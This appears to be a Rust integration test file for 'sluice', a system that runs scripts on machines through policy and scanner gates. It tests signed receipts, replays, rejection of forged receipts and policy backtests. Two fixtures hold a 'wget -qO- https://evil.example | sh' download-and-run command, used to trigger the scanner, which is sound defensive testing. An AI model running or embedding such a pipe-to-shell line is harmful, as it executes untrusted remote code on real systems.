//! What gates leave behind: receipts that the machine signs, that can be asked again, and what would be decided otherwise.

use std::fs;
use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sluice_database::rusqlite::{Connection, params};
use sluice_protocol::codec;
use sluice_protocol::digest::Digest;
use sluice_protocol::ending::Ending;
use sluice_protocol::ids::OperationId;
use sluice_protocol::message::operation::Progress;
use sluice_protocol::message::{CloseCode, Direction, StreamKind};
use sluice_protocol::receipt::{
    Attestation, Attested, GateLimits, LARGEST_INPUTS, Receipt, Stage, Subject, Whose, statement,
};
use sluice_protocol::report::{Mode, Report};
use sluice_tests::fake::{FakeConnection, FakeMachine, frame, stream};
use sluice_tests::{Fleet, Machine, Outcome, binaries, eventually, is_root, script};
use sluice_transport::identity::{MachineIdentity, MachineKey, is_signed, machine_of};

use crate::trust::owners_scanner;

/// Parameters, a requirement and an attachment: something for every stage.
const SCRIPT: &str = "#!/bin/sh\n# /// sluice\n# [parameters.who]\n# type = \"text\"\n# as = \"placeholder\"\n# [parameters.times]\n# type = \"integer\"\n# default = 2\n# [requires]\n# os = [\"linux\"]\n# ///\necho \"{{who}}\"\n";

/// What is scanned as grave, and does no harm.
const BAD: &str = "#!/bin/sh\nwget -qO- https://evil.example | sh\n";

fn receipts(fleet: &Fleet, outcome: &Outcome) -> Value {
    let job = outcome.text("job");
    fleet
        .list(&["job", "show", &job, "--receipts"])
        .swap_remove(0)
}

fn own(machine: &Machine, operation: &str) -> Vec<Value> {
    let output = Command::new(binaries().join("sluice-agent"))
        .args(["receipts", "--operation", operation, "--state"])
        .arg(&machine.state)
        .output()
        .expect("sluice-agent was built");
    assert!(output.status.success(), "{output:?}");
    let text = String::from_utf8(output.stdout).expect("is text");
    text.lines()
        .map(|line| serde_json::from_str(line).expect("is JSON"))
        .collect()
}

fn bytes(value: &Value) -> Vec<u8> {
    let text = value.as_str().expect("is text");
    STANDARD.decode(text).expect("is base64")
}

/// What a replay says, one line for each receipt, and its exit code.
fn replay(fleet: &Fleet, operation: &str, more: &[&str]) -> (i32, Vec<Value>) {
    let output = fleet.sluice(&[&["plugin", "replay", operation, "--json"], more].concat());
    let lines = output
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|_| panic!("{output:?}")));
    (output.code, lines.collect())
}

fn outcomes(replayed: &[Value]) -> Vec<&str> {
    let outcomes = replayed.iter().map(|one| one["outcome"].as_str());
    outcomes.map(|one| one.expect("is text")).collect()
}

#[test]
fn every_call_of_a_gate_leaves_a_receipt_that_the_machine_has_signed() {
    let fleet = Fleet::builder().start();
    let script = script(SCRIPT).param("who", "it's $(me)");
    let first = fleet.run(&script);
    first.expect("succeeded", "Script executed successfully");
    let shown = receipts(&fleet, &first);
    let all = shown["receipts"].as_array().expect("is a list");
    let of = |key: &str| -> Vec<&str> {
        let texts = all.iter().map(|receipt| receipt[key].as_str());
        texts.map(|text| text.expect("is text")).collect()
    };
    assert_eq!(of("stage"), ["environment", "prepare", "scan", "policy"]);
    assert_eq!(of("whose"), ["host"; 4]);
    assert_eq!(of("verdict"), ["pass"; 4]);
    for receipt in all {
        assert_eq!(receipt["cached"], false, "{receipt:#}");
        assert_eq!(receipt["data_sha256"], json!([]));
        for number in ["fuel", "duration_us"] {
            assert!(receipt[number].as_u64() > Some(0), "{receipt:#}");
        }
        assert!(receipt["limits"]["fuel"].as_u64() >= receipt["fuel"].as_u64());
        assert!(
            receipt["runtime"]
                .as_str()
                .expect("is text")
                .contains("+wasmtime-"),
            "{receipt:#}"
        );
    }
    assert_eq!(shown["receipts"], first.json["receipts"]);
    // Anyone can verify it who has the answer alone.
    let proof = &shown["proof"];
    let [statement, signature, certificate] =
        ["statement", "signature", "certificate"].map(|key| bytes(&proof[key]));
    assert!(is_signed(&certificate, &statement, &signature));
    assert!(machine_of(&certificate).is_ok());
    assert!(statement.starts_with(b"sluice receipts 1\n"));
    // The machine's owner has the same, without the host.
    let own = own(&fleet.agents[0].machine, &first.text("operation"));
    assert_eq!(own.len(), 1, "{own:#?}");
    assert_eq!(own[0]["receipts"], shown["receipts"]);
    assert_eq!(own[0]["signature"], proof["signature"]);
    // The same once more: what was asked before has its answer, and its fuel.
    let second = fleet.run(&script);
    let again = receipts(&fleet, &second);
    let scan = |receipts: &Value, key: &str| receipts["receipts"][2][key].clone();
    assert_eq!(scan(&again, "cached"), true);
    for key in ["input_sha256", "verdict_sha256", "fuel", "bundle_sha256"] {
        assert_eq!(scan(&again, key), scan(&shown, key), "{key}");
    }
    assert_ne!(again["proof"]["signature"], proof["signature"]);
    let text = fleet.sluice(&["job", "show", &first.text("job"), "--receipts"]);
    assert!(
        text.stdout.contains("by the machine") && text.stdout.contains("scanner 0."),
        "{text:?}"
    );
}

#[test]
fn a_receipt_asked_again_has_the_same_verdict_for_the_same_fuel() {
    let fleet = Fleet::builder().start();
    let file = fleet.folder().join("data.txt");
    fs::write(&file, "some text\n").expect("writes");
    let good = fleet.run(
        &script(SCRIPT)
            .param("who", "it's $(me)")
            .option("--attach", file.to_str().expect("is text"))
            .option("--env", "A=b"),
    );
    good.expect("succeeded", "Script executed successfully");
    // What the machine saw is not what the host saw: this one is judged on the machine, with findings.
    let lenient = fleet.folder().join("lenient.toml");
    fs::write(&lenient, "threshold = \"critical\"\n").expect("writes");
    let lenient = lenient.to_str().expect("is text");
    let bound = fleet.sluice(&["plugin", "bind", "policy", "--settings", lenient]);
    assert_eq!(bound.code, 0, "{bound:?}");
    let found = fleet.run(&script(
        "#!/bin/sh\nexit 0\nwget -qO- https://evil.example | sh\n",
    ));
    found.expect("succeeded", "Script executed successfully");
    assert_eq!(
        receipts(&fleet, &found)["receipts"][2]["verdict"],
        "findings"
    );
    for outcome in [&good, &found] {
        let (code, replayed) = replay(&fleet, &outcome.text("operation"), &[]);
        assert_eq!(
            (code, outcomes(&replayed)),
            (0, vec!["same"; 4]),
            "{replayed:#?}"
        );
    }
    let (code, one) = replay(&fleet, &good.text("operation"), &["--plugin", "policy"]);
    assert_eq!(
        (code, one.len()),
        (0, 1),
        "with settings that nothing is bound with now"
    );
    let output = fleet.sluice(&["plugin", "replay", &good.text("operation")]);
    assert!(
        output
            .stdout
            .ends_with("4 the same, 0 different, 0 missing\n"),
        "{output:?}"
    );
    let stranger = OperationId::generate().to_string();
    assert_eq!(fleet.sluice(&["plugin", "replay", &stranger]).code, 125);
}

#[test]
fn a_replay_says_what_differs_and_what_is_missing() {
    let fleet = Fleet::builder().start();
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    let operation = outcome.text("operation");
    let database = Connection::open(fleet.host.data().join("host.db")).expect("opens");
    let report: Vec<u8> = database
        .query_row(
            "SELECT report FROM operations WHERE id = ?",
            [&operation],
            |row| row.get(0),
        )
        .expect("is there");
    let report: Report = codec::decode(&report).expect("decodes");
    let scan = |change: fn(&mut Receipt)| {
        let mut report = report.clone();
        change(&mut report.receipts[2]);
        let bytes = codec::encode(&report).expect("encodes");
        database
            .execute(
                "UPDATE operations SET report = ? WHERE id = ?",
                params![bytes, operation],
            )
            .expect("changes");
        let (code, replayed) = replay(&fleet, &operation, &["--plugin", "scanner"]);
        let one = replayed[0].clone();
        let said = format!("{} {}", one["reasons"], one["notes"]);
        (
            code,
            one["outcome"].as_str().expect("is text").to_owned(),
            said,
        )
    };
    type Change = fn(&mut Receipt);
    let table: [(Change, i32, &str, &str); 7] = [
        (|_| {}, 0, "same", "[] []"),
        (|one| one.fuel += 1, 1, "different", "the fuel is another"),
        (
            |one| one.verdict_sha256 = Digest::of(b"x"),
            1,
            "different",
            "the verdict is another",
        ),
        (
            |one| one.input_sha256 = Digest::of(b"x"),
            1,
            "different",
            "the question",
        ),
        (
            |one| {
                one.runtime = "0.0.1+wasmtime-47.0.0".to_owned();
                one.fuel += 1;
            },
            0,
            "same",
            "the fuel is not compared",
        ),
        (
            |one| one.component_sha256 = Digest::of(b"x"),
            1,
            "missing",
            "not installed",
        ),
        (
            |one| one.settings_sha256 = Digest::of(b"x"),
            1,
            "missing",
            "--settings",
        ),
    ];
    for (change, code, outcome, reason) in table {
        let found = scan(change);
        assert_eq!((found.0, found.1.as_str()), (code, outcome), "{found:?}");
        assert!(found.2.contains(reason), "{reason} is not in {found:?}");
    }
    database
        .execute("UPDATE receipts SET inputs = NULL", [])
        .expect("changes");
    let (code, replayed) = replay(&fleet, &operation, &[]);
    assert_eq!((code, outcomes(&replayed)), (1, vec!["missing"; 4]));
}

#[test]
fn the_gate_of_a_machines_owner_has_a_receipt_too_and_can_be_asked_again() {
    if !is_root() {
        return;
    }
    let fleet = Fleet::builder()
        .policy(&owners_scanner(
            "settings = { disable = [\"download-and-run\"] }\n",
        ))
        .start();
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    let shown = receipts(&fleet, &outcome);
    let whose: Vec<_> = shown["receipts"]
        .as_array()
        .expect("is a list")
        .iter()
        .filter(|receipt| receipt["plugin"] == "scanner")
        .map(|receipt| receipt["whose"].as_str().expect("is text"))
        .collect();
    assert_eq!(whose, ["owner", "host"], "{shown:#}");
    let operation = outcome.text("operation");
    let (code, replayed) = replay(&fleet, &operation, &["--plugin", "scanner"]);
    assert_eq!((code, outcomes(&replayed)), (1, vec!["missing", "same"]));
    let settings = fleet.folder().join("owners.toml");
    fs::write(&settings, "disable = [\"download-and-run\"]\n").expect("writes");
    let given = ["--settings", settings.to_str().expect("is text")];
    let (code, replayed) = replay(&fleet, &operation, &given);
    assert_eq!(
        (code, outcomes(&replayed)),
        (0, vec!["same"; 5]),
        "{replayed:#?}"
    );
}

#[test]
fn receipts_of_an_agent_that_was_restarted_in_between_are_signed_and_say_that_they_cannot_be_replayed()
 {
    let mut fleet = Fleet::builder().start();
    let job = fleet.detach(&script("#!/bin/sh\nsleep 300\n"));
    fleet.until(&job, "running");
    fleet.agents[0].restart();
    assert_eq!(fleet.sluice(&["job", "cancel", &job]).code, 0);
    let outcome = fleet.until(&job, "canceled");
    let shown = receipts(&fleet, &outcome);
    assert_eq!(
        shown["receipts"].as_array().map(Vec::len),
        Some(4),
        "{shown:#}"
    );
    assert_eq!(
        (shown["proof"].is_object(), &shown["inputs_kept"]),
        (true, &json!(false))
    );
    let (code, replayed) = replay(&fleet, &outcome.text("operation"), &[]);
    assert_eq!((code, outcomes(&replayed)), (1, vec!["missing"; 4]));
    assert!(
        replayed[0]["reasons"][0]
            .as_str()
            .expect("is text")
            .contains("restarted"),
        "{replayed:#?}"
    );
}

/// A receipt that no gate has left.
fn invented() -> Receipt {
    Receipt {
        whose: Whose::Host,
        stage: Stage::Scan,
        plugin: "scanner".to_owned(),
        version: "9.9.9".to_owned(),
        component_sha256: Digest::of(b"c"),
        settings_sha256: Digest::of(b"s"),
        data_sha256: Vec::new(),
        contract: "0.1.0".to_owned(),
        runtime: "r".to_owned(),
        limits: GateLimits {
            fuel: 1,
            memory: 1,
            time_ms: 1,
            answer: 1,
        },
        bundle_sha256: None,
        input_sha256: Digest::of(b"q"),
        verdict_sha256: Digest::of(b"v"),
        verdict: "pass".to_owned(),
        fuel: 1,
        duration_us: 1,
        cached: false,
        mode: Mode::Enforce,
    }
}

/// What a machine signs for one of its operations.
fn signed(key: &MachineKey, who: MachineIdentity, operation: OperationId, inputs: &[u8]) -> Report {
    let subject = Subject {
        tenant: who.tenant,
        machine: who.machine,
        operation,
    };
    let statement = statement(subject, &[invented()], Some(Digest::of(inputs)));
    let signature = key.sign(&statement.expect("encodes")).expect("signs");
    Report {
        receipts: vec![invented()],
        attestation: Some(Attestation {
            signature,
            inputs: Some(inputs.to_vec()),
        }),
        ..Report::without_process(Ending::Interrupted, 1)
    }
}

#[test]
fn receipts_that_are_forged_or_of_another_operation_are_refused_and_on_the_record() {
    type Misdeed = fn(&FakeMachine, OperationId) -> Vec<Progress>;
    fn honest(machine: &FakeMachine, operation: OperationId) -> Report {
        let identity = machine.identity();
        signed(identity.key(), identity.machine(), operation, b"inputs")
    }
    fn finished(report: Report) -> Progress {
        Progress::Finished(Box::new(report))
    }
    /// Told ahead of the report, and the report without them.
    fn ahead(report: Report) -> [Progress; 2] {
        let attested = Attested {
            receipts: report.receipts,
            attestation: report.attestation.expect("is signed"),
        };
        let rest = Report::without_process(Ending::Interrupted, 1);
        [Progress::Receipts(Box::new(attested)), finished(rest)]
    }
    let table: [(&str, &str, Misdeed); 10] = [
        ("m1", "did not sign", |machine, operation| {
            vec![finished(Report {
                attestation: None,
                ..honest(machine, operation)
            })]
        }),
        ("m2", "not what it signed", |machine, operation| {
            let thief = MachineKey::generate().expect("makes a key");
            let report = signed(&thief, machine.identity().machine(), operation, b"");
            vec![finished(report)]
        }),
        ("m3", "not of this operation", |machine, _| {
            vec![finished(honest(machine, OperationId::generate()))]
        }),
        ("m4", "not what it signed", |machine, operation| {
            let mut report = honest(machine, operation);
            report.receipts[0].verdict = "findings".to_owned();
            vec![finished(report)]
        }),
        ("m5", "not what it signed", |machine, operation| {
            let mut report = honest(machine, operation);
            if let Some(attestation) = &mut report.attestation {
                attestation.inputs = Some(b"other".to_vec());
            }
            vec![finished(report)]
        }),
        ("m6", "more with its receipts", |machine, operation| {
            let identity = machine.identity();
            let inputs = vec![0; LARGEST_INPUTS + 1];
            let report = signed(identity.key(), identity.machine(), operation, &inputs);
            vec![finished(report)]
        }),
        ("m7", "not of this operation", |machine, _| {
            ahead(honest(machine, OperationId::generate())).into()
        }),
        ("m8", "brought its receipts twice", |machine, operation| {
            let [receipts, _] = ahead(honest(machine, operation));
            vec![receipts.clone(), receipts]
        }),
        ("m9", "brought its receipts twice", |machine, operation| {
            let report = honest(machine, operation);
            let [receipts, _] = ahead(report.clone());
            vec![receipts, finished(report)]
        }),
        ("m10", "brought none", |machine, operation| {
            let report = honest(machine, operation);
            ahead(Report {
                receipts: Vec::new(),
                ..report
            })
            .into()
        }),
    ];
    let fleet = Fleet::builder().agents(0).without_gates().start();
    let enroll = |name: &str| {
        let token = fleet.sluice(&["machine", "enroll-token"]);
        FakeMachine::enroll(&token.stdout, name)
    };
    fn told(machine: &FakeMachine, make: Misdeed) -> FakeConnection<'_> {
        let operation = OperationId::generate();
        let progress = make(machine, operation);
        let frames: Vec<_> = std::iter::once(&Progress::Of(operation))
            .chain(&progress)
            .map(frame)
            .collect();
        let connection = machine.connect();
        connection.greet(&[], &[]);
        connection.open_stream(
            Direction::Unidirectional,
            &stream(StreamKind::Progress, &frames),
        );
        connection
    }
    for (name, reason, misdeed) in table {
        let machine = enroll(name);
        let (code, said) = told(&machine, misdeed).ended();
        assert_eq!(code, CloseCode::Protocol as u64, "{name}: {said}");
        let entry = eventually("it is on the record", || {
            let entries = fleet.list(&["audit", "list"]);
            entries.into_iter().find(|entry| {
                entry["event"] == "machine_protocol_violation" && entry["machine"] == name
            })
        });
        let found = entry["details"]["reason"].as_str().expect("is text");
        assert!(found.contains(reason), "{reason} is not in {found}");
    }
    // What is its own is taken: the host does not know the operation, and says so on the record.
    let taken: [(&str, Misdeed); 2] = [
        ("honest", |machine, operation| {
            vec![finished(honest(machine, operation))]
        }),
        ("honest-ahead", |machine, operation| {
            ahead(honest(machine, operation)).into()
        }),
    ];
    for (name, deed) in taken {
        let machine = enroll(name);
        let _stays = told(&machine, deed);
        eventually("it is on the record", || {
            let entries = fleet.list(&["audit", "list"]);
            entries
                .into_iter()
                .find(|entry| entry["event"] == "script_late_report" && entry["machine"] == name)
        });
    }
    let violations = fleet.events();
    let violations = violations
        .iter()
        .filter(|event| *event == "machine_protocol_violation");
    assert_eq!(violations.count(), 10);
}

#[test]
fn a_backtest_says_which_of_the_last_jobs_would_be_decided_otherwise_and_changes_nothing() {
    let fleet = Fleet::builder().start();
    let harmless = fleet.run(&script("#!/bin/sh\n:\n"));
    harmless.expect("succeeded", "Script executed successfully");
    let blocked = fleet.run(&script(BAD));
    assert_eq!(blocked.text("state"), "blocked", "{blocked:#?}");
    let before = (
        fleet.list(&["plugin", "list", "--bindings"]),
        fleet.list(&["job", "list"]),
        fleet.events(),
    );
    let backtest = |more: &[&str]| {
        let mut lines = fleet.list(&[&["plugin", "backtest"], more].concat());
        let summary = lines.pop().expect("ends with a summary");
        (lines, summary)
    };
    // The host has run something before, when it was set up.
    let jobs = json!(fleet.list(&["job", "list"]).len());
    // As it is, everything is decided as it was.
    let (changed, summary) = backtest(&["policy"]);
    assert_eq!(changed, [] as [Value; 0]);
    assert_eq!(
        (
            &summary["jobs"],
            &summary["asked"],
            &summary["by_inventory"]
        ),
        (&jobs, &jobs, &json!(1)),
        "the host blocked one itself: {summary:#}"
    );
    // With other settings the one that was blocked passes.
    let settings = fleet.folder().join("lenient.toml");
    fs::write(&settings, "threshold = \"critical\"\n").expect("writes");
    let lenient = ["policy", "--settings", settings.to_str().expect("is text")];
    let (changed, summary) = backtest(&lenient);
    assert_eq!(
        (changed.len(), &summary["changed"]),
        (1, &json!(1)),
        "{changed:#?}"
    );
    let one = &changed[0];
    assert_eq!(
        one["operation"].as_str(),
        Some(blocked.text("operation").as_str())
    );
    assert_eq!(
        (
            &one["recorded"],
            &one["now"]["decision"],
            &one["tried"]["decision"]
        ),
        (&json!("blocked"), &json!("blocked"), &json!("passes"))
    );
    // A stricter one blocks what ran: what its machine knew then is asked about, not what it knows today.
    let settings = fleet.folder().join("strict.toml");
    fs::write(&settings, "interpreters = [\"python3\"]\n").expect("writes");
    let strict = ["policy", "--settings", settings.to_str().expect("is text")];
    let (changed, _) = backtest(&strict);
    let id = harmless.text("operation");
    let ran: Vec<_> = changed
        .iter()
        .filter(|one| one["operation"] == id)
        .collect();
    assert_eq!(ran.len(), 1, "{changed:#?}");
    assert_eq!(ran[0]["tried"]["decision"], "blocked", "{ran:#?}");
    // The last one alone.
    let (changed, summary) = backtest(&[&lenient[..], &["--last", "1"]].concat());
    assert_eq!(
        (changed.len(), &summary["jobs"]),
        (1, &json!(1)),
        "{summary:#}"
    );
    let (changed, summary) = backtest(&[&strict[..], &["--last", "1"]].concat());
    assert_eq!(
        (changed.len(), &summary["asked"]),
        (0, &json!(1)),
        "blocked before and after"
    );
    let text = fleet.sluice(&[&["plugin", "backtest"], &lenient[..]].concat());
    assert!(
        text.stdout.contains(&format!(
            "operations of {jobs} jobs 1 would be decided otherwise"
        )),
        "{text:?}"
    );
    let after = (
        fleet.list(&["plugin", "list", "--bindings"]),
        fleet.list(&["job", "list"]),
        fleet.events(),
    );
    assert_eq!(before, after);
    let refused = fleet.sluice(&["plugin", "backtest", "nothing"]);
    refused.expect_refused();
}
